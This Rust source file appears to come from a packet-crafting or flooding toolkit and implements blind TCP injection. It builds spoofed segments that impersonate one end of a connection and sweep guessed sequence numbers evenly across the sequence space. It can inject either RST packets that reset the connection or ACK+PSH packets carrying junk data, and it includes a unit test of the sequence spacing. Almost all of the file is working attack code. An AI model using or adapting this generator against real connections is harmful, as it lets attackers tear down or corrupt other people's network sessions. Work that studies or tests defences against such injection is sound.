//! Blind injection into a connection whose addresses and ports an attacker knows but whose
//! sequence numbers it must guess: resets or data segments swept evenly across the sequence
//! space, sent with the spoofed address of one end.

use std::net::SocketAddrV4;

use crate::craft::{flags, Rng, Segment};

/// What to inject.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum InjectKind {
    Rst,
    /// ACK+PSH segments with 64 bytes of junk.
    Data,
}

impl std::str::FromStr for InjectKind {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, String> {
        match s {
            "rst" => Ok(InjectKind::Rst),
            "data" => Ok(InjectKind::Data),
            other => Err(format!("unknown injection kind {other:?} (rst, data)")),
        }
    }
}

/// Who is impersonated towards whom, and how many guesses.
#[derive(Debug, Clone, Copy)]
pub struct InjectSpec {
    /// The end being impersonated (the packets' source).
    pub from: SocketAddrV4,
    /// The end being attacked.
    pub to: SocketAddrV4,
    pub kind: InjectKind,
    /// Number of guesses; their sequence numbers are `2^32 / count` apart.
    pub count: u64,
    pub seed: u64,
}

/// The packet maker for [`crate::flood::paced`]: guess `i` has sequence number
/// `start + i * 2^32 / count` from a random start.
pub fn guesses(spec: &InjectSpec) -> impl FnMut() -> Vec<u8> {
    let spec = *spec;
    let mut rng = Rng::new(spec.seed);
    let start = rng.next_u32();
    let step = (1u64 << 32) / spec.count.max(1);
    let mut i = 0u64;
    move || {
        let seq = start.wrapping_add((i * step) as u32);
        i += 1;
        let mut s = Segment::syn(
            *spec.from.ip(),
            spec.from.port(),
            *spec.to.ip(),
            spec.to.port(),
            seq,
        );
        match spec.kind {
            InjectKind::Rst => s.flags = flags::RST,
            InjectKind::Data => {
                s.flags = flags::ACK | flags::PSH;
                s.ack = rng.next_u32();
                s.payload = rng.bytes(64);
            }
        }
        s.to_bytes()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guesses_sweep_the_sequence_space() {
        let spec = InjectSpec {
            from: "192.0.2.2:40000".parse().unwrap(),
            to: "198.51.100.2:5001".parse().unwrap(),
            kind: InjectKind::Rst,
            count: 4,
            seed: 1,
        };
        let mut next = guesses(&spec);
        let seqs: Vec<u32> = (0..4)
            .map(|_| {
                let p = next();
                assert_eq!(p[33], flags::RST);
                u32::from_be_bytes([p[24], p[25], p[26], p[27]])
            })
            .collect();
        for w in seqs.windows(2) {
            assert_eq!(w[1].wrapping_sub(w[0]), 1 << 30);
        }
    }
}
